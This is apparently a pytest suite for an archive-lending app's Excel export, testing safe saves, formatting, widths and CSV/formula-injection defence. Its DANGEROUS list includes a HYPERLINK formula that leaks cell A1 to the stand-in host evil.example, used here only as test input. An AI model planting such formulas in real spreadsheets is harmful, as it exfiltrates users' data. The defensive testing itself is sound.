"""Workbooks are saved atomically and read back as the clerk's Excel would see them, from
openpyxl's normal and write-only (streaming) workbooks alike."""

from __future__ import annotations

import datetime as dt
import decimal
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart, Reference

from archive_desk.errors import Cancelled, KnownError
from archive_desk.forms.excel import (
    MAX_WIDTH,
    add_sheet,
    discard_workbook,
    is_formula_like,
    make_workbook,
    safe_cell_value,
    save_workbook,
    sheet_title,
    write_sheet,
)

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+SUM(A1:A3)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]


@pytest.fixture(params=[False, True], ids=["normal", "write_only"])
def write_only(request: pytest.FixtureRequest) -> bool:
    return bool(request.param)


@pytest.fixture
def save_and_reopen(write_only: bool):  # type: ignore[no-untyped-def]
    def save_and_reopen(tmp_path: Path, headers, rows, **kw):  # type: ignore[no-untyped-def]
        wb = make_workbook(write_only=write_only)
        add_sheet(wb, "借阅月报", headers, rows, **kw)
        path = tmp_path / "report.xlsx"
        save_workbook(wb, path)
        return path, load_workbook(path)["借阅月报"]

    return save_and_reopen


def test_formula_looking_text_stays_text(tmp_path: Path, save_and_reopen) -> None:
    path, ws = save_and_reopen(tmp_path, ["备注"], [[v] for v in DANGEROUS])
    for row, original in enumerate(DANGEROUS, start=2):
        cell = ws.cell(row=row, column=1)
        # XML reading normalises a raw carriage return to a line feed; the text is still text
        assert cell.value == original.replace("\r", "\n")
        assert cell.data_type == "s", f"{original!r} came back as {cell.data_type}"
        assert cell.quotePrefix, f"{original!r} has no quote prefix"
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_ordinary_text_and_numbers_are_left_alone(tmp_path: Path, save_and_reopen) -> None:
    _, ws = save_and_reopen(
        tmp_path, ["名称", "数量", "金额"], [["上海某某公司", 3, decimal.Decimal("12.50")]]
    )
    assert [c.value for c in ws[2]] == ["上海某某公司", 3, 12.5]
    assert not ws["A2"].quotePrefix
    assert ws["B2"].data_type == "n"


def test_is_formula_like() -> None:
    assert all(is_formula_like(v) for v in DANGEROUS)
    assert not any(is_formula_like(v) for v in ["", "张三", "GY-2023", "a=b", "1+1", "@"[:0]])


def test_safe_cell_value_cleans_what_openpyxl_would_refuse() -> None:
    assert safe_cell_value("甲\x01乙\x0b") == "甲乙"
    assert len(safe_cell_value("长" * 40000)) == 32767
    assert safe_cell_value(float("nan")) == "nan"
    aware = dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC)
    assert safe_cell_value(aware).tzinfo is None
    assert safe_cell_value(None) is None


def test_dates_are_real_excel_dates(tmp_path: Path, save_and_reopen) -> None:
    _, ws = save_and_reopen(
        tmp_path,
        ["借阅日期", "借出时间"],
        [[dt.date(2026, 3, 2), dt.datetime(2026, 3, 2, 14, 30)]],
    )
    day, moment = ws["A2"], ws["B2"]
    assert day.is_date and moment.is_date
    assert day.value == dt.datetime(2026, 3, 2)
    assert moment.value == dt.datetime(2026, 3, 2, 14, 30)
    assert day.number_format == "yyyy-mm-dd"
    assert moment.number_format == "yyyy-mm-dd hh:mm"


def test_formats_by_header(tmp_path: Path, save_and_reopen) -> None:
    _, ws = save_and_reopen(
        tmp_path, ["名称", "金额"], [["甲", 12.5]], formats={"金额": "#,##0.00"}
    )
    assert ws["B2"].number_format == "#,##0.00"
    assert ws["A2"].number_format == "General"


def test_header_frozen_filtered_bold_and_printable(tmp_path: Path, save_and_reopen) -> None:
    _, ws = save_and_reopen(
        tmp_path,
        ["序号", "档案编号", "客户名称"],
        [[1, "GY20230001", "甲公司"], [2, "GY20230002", "乙公司"], [3, "GY20230003", "丙公司"]],
    )
    assert [c.value for c in ws[1]] == ["序号", "档案编号", "客户名称"]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:C4"
    assert ws.print_title_rows == "$1:$1"
    assert ws.page_setup.orientation == "landscape"
    assert int(ws.page_setup.paperSize) == int(ws.PAPERSIZE_A4)
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert "&P" in ws.oddFooter.center.text and "&N" in ws.oddFooter.center.text


def test_widths_count_chinese_double_and_are_capped(tmp_path: Path, save_and_reopen) -> None:
    chinese = "上海浦东新区某某科技发展有限公司"  # 16 characters
    latin = "ABCDEFGHIJKLMNOP"  # 16 characters
    _, ws = save_and_reopen(
        tmp_path, ["名称", "代码", "说明", "号"], [[chinese, latin, "很长" * 100, 1]]
    )
    width = {col: ws.column_dimensions[col].width for col in "ABCD"}
    assert width["A"] >= 32 and width["A"] > width["B"] + 10
    assert 16 <= width["B"] <= 22
    assert width["C"] == MAX_WIDTH
    assert 6 <= width["D"] <= 8


def test_explicit_widths_win(tmp_path: Path, save_and_reopen) -> None:
    _, ws = save_and_reopen(tmp_path, ["甲", "乙"], [["x", "y"]], widths=[30, None])
    assert ws.column_dimensions["A"].width == 30
    assert 6 <= ws.column_dimensions["B"].width < 30


def test_failed_save_leaves_no_file(tmp_path: Path) -> None:
    wb = Workbook()
    wb.active.sheet_state = "hidden"  # openpyxl refuses to save a workbook with no visible sheet
    path = tmp_path / "broken.xlsx"
    with pytest.raises(ValueError):
        save_workbook(wb, path)
    assert list(tmp_path.iterdir()) == []


def test_failed_save_keeps_the_previous_file(tmp_path: Path) -> None:
    path = tmp_path / "monthly.xlsx"
    good = make_workbook()
    add_sheet(good, "三月", ["甲"], [["旧数据"]])
    save_workbook(good, path)
    broken = Workbook()
    broken.active.sheet_state = "hidden"
    with pytest.raises(ValueError):
        save_workbook(broken, path)
    assert load_workbook(path)["三月"]["A2"].value == "旧数据"
    assert [p.name for p in tmp_path.iterdir()] == ["monthly.xlsx"]


def test_save_into_a_missing_folder_is_a_known_error(tmp_path: Path) -> None:
    wb = make_workbook()
    add_sheet(wb, "甲", ["甲"], [])
    with pytest.raises(KnownError, match="文件夹不存在"):
        save_workbook(wb, tmp_path / "gone" / "a.xlsx")


def test_make_workbook_starts_empty_and_sheet_titles_are_made_valid() -> None:
    wb = make_workbook()
    assert wb.sheetnames == []
    ws = add_sheet(wb, "2026/03 借阅[月报]:逾期*清单?很长很长很长很长很长很长很长", ["甲"], [])
    assert wb.sheetnames == [ws.title]
    assert len(ws.title) <= 31 and not set("[]:*?/\\") & set(ws.title)
    assert sheet_title("") == "Sheet"


def test_empty_sheet_still_has_header_and_filter(tmp_path: Path, save_and_reopen) -> None:
    _, ws = save_and_reopen(tmp_path, ["序号", "名称"], [])
    assert ws.max_row == 1 and ws.auto_filter.ref == "A1:B1"


def test_row_of_wrong_length_is_refused(write_only: bool) -> None:
    wb = make_workbook(write_only=write_only)
    with pytest.raises(ValueError, match="row 2 has 1 cells"):
        write_sheet(wb.create_sheet(), "甲", ["a", "b"], [["1", "2"], ["3"]])


def test_rows_below_the_table_stay_outside_its_filter_and_count_for_widths(
    tmp_path: Path, save_and_reopen
) -> None:
    below = [["日期", "借出件数"], [dt.date(2026, 3, 2), 5], [dt.date(2026, 3, 3), "=1+1"]]
    _, ws = save_and_reopen(tmp_path, ["组", "名称"], [["部门", "甲"], ["部门", "乙"]], below=below)
    assert ws.auto_filter.ref == "A1:B3"
    assert [c.value for c in ws[6]] == ["日期", "借出件数"]
    assert ws.max_row == 8 and all(c.value is None for c in ws[4] + ws[5])
    assert ws["A7"].is_date and ws["A7"].value == dt.datetime(2026, 3, 2)
    assert ws["B8"].data_type == "s" and ws["B8"].quotePrefix
    assert ws.column_dimensions["A"].width >= 10  # the dates below fit, not just 组/部门


def test_a_chart_of_rows_below_on_a_write_only_sheet(tmp_path: Path) -> None:
    wb = make_workbook(write_only=True)
    ws = wb.create_sheet()
    days = [[dt.date(2026, 3, d), d] for d in (2, 3, 4)]
    count = write_sheet(ws, "汇总", ["分组", "件数"], [["甲", 1]], below=[["日期", "件数"], *days])
    first = count + 4
    chart = BarChart()
    chart.add_data(
        Reference(ws, min_col=2, min_row=first, max_row=first + 3), titles_from_data=True
    )
    chart.set_categories(Reference(ws, min_col=1, min_row=first + 1, max_row=first + 3))
    ws.add_chart(chart, "E2")
    save_workbook(wb, tmp_path / "c.xlsx")
    reopened = load_workbook(tmp_path / "c.xlsx")["汇总"]
    assert len(reopened._charts) == 1
    assert [r[1] for r in reopened.iter_rows(min_row=first + 1, values_only=True)] == [2, 3, 4]


def test_progress_reports_rows_and_cancels(write_only: bool) -> None:
    wb = make_workbook(write_only=write_only)
    seen: list[tuple[int, int]] = []
    rows = [[n, f"第 {n} 行"] for n in range(1200)]
    write_sheet(wb.create_sheet(), "甲", ["序号", "内容"], rows, progress=lambda d, t: not seen.append((d, t)))  # fmt: skip
    assert seen == [(0, 1200), (500, 1200), (1000, 1200)]
    with pytest.raises(Cancelled):
        write_sheet(wb.create_sheet(), "乙", ["序号", "内容"], rows, progress=lambda d, t: d < 500)
    # a write-only sheet streams into a temporary file: dropping the workbook removes them
    streams = [Path(ws._writer.out) for ws in wb.worksheets if getattr(ws, "_writer", None)]
    assert len(streams) == (2 if write_only else 0)
    discard_workbook(wb)
    assert not any(p.exists() for p in streams)
